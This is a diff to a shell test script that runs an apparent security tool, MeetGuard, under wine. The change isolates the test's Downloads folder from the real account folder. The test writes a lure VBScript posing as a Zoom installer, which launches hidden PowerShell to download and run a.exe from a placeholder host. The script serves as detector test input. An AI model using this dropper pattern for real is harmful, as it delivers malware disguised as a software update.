@@ -44,6 +44,10 @@ trap finish EXIT
 
 rm -rf "$WINEPREFIX"
 "$wine" wineboot -i >/dev/null 2>&1
+# wine makes the folders of a user links to those of the account outside
+downloads=$WINEPREFIX/drive_c/users/$(id -un)/Downloads
+rm "$downloads"
+mkdir "$downloads"
 # Go asks a library of Windows 10 for random numbers that wine 8 does not have.
 # This one stands in for it, in this test alone.
 cat >"$work/bcp.c" <<'C'
@@ -70,8 +74,6 @@ for pid in $(pgrep -f 'MeetGuard.meetguard.exe'); do
 done
 
 say "a lure"
-downloads=$(find "$WINEPREFIX/drive_c/users" -maxdepth 2 -name Downloads | head -1)
-[ -n "$downloads" ] || fail "wine made no Downloads"
 printf 'Set s = CreateObject("WScript.Shell")\r\n%s s.Run "powershell -w hidden -c iwr https://zoom-sdk-update.invalid/a -outfile a.exe; .\\a.exe", 0\r\n' "' Zoom SDK Update
 " >"$downloads/ZoomInstallerFull.vbs.part"
 mv "$downloads/ZoomInstallerFull.vbs.part" "$downloads/ZoomInstallerFull.vbs"
